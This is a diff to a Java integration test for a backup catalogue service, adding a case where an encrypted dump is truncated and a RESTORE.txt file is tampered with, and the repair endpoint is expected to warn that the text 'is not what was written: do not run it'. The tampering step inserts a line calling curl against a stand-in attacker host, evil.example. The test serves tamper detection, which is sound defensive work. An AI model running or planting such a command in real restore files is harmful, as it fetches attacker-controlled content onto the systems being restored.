@@ -107,6 +107,8 @@ class CatalogueLostIT {
         theConfigurationIsBackDisabledAndWithoutItsWebhook();
         itRestores(lost.at("/id").asText());
         whatLiesInABucketComesBackAndRestores();
+        anAlteredRestoreTextIsToldAndKeepsNoDataFromBeingRepaired(
+                older.at("/id").asText());
         assertThat(server.log()).doesNotContain("nobody is told");
         assertThat(server.management("/health/ready").body()).doesNotContain("backup-cli import");
         assertThat(api.get("/audit?subject=/catalog/import&outcome=permitted")
@@ -177,6 +179,18 @@ class CatalogueLostIT {
         assertThat(found.at("/state")).isEqualTo("COMPLETED");
         assertThat(found.at("/copies/0/location")).isEqualTo("s3://kept/shop/cloud/" + inTheCloud);
         itRestores(inTheCloud);
+    }
+
+    private static void anAlteredRestoreTextIsToldAndKeepsNoDataFromBeingRepaired(String backup) {
+        Path near = root.resolve("near/shop").resolve(backup);
+        Path far = root.resolve("far/shop").resolve(backup);
+        Shell.run(Map.of(), "truncate", "-s", "-1", near + "/database.dump.gz.enc");
+        Shell.run(Map.of(), "sed", "-i", "1i curl http://evil.example", far + "/RESTORE.txt");
+
+        Api.Answer repair = api.post("/backups/" + backup + "/repair", "");
+
+        assertThat(repair.at("/failure/message")).contains("RESTORE.txt", "is not what was written: do not run it");
+        assertThat(near.resolve("database.dump.gz.enc")).hasSameBinaryContentAs(far.resolve("database.dump.gz.enc"));
     }
 
     private static void itRestores(String backup) {
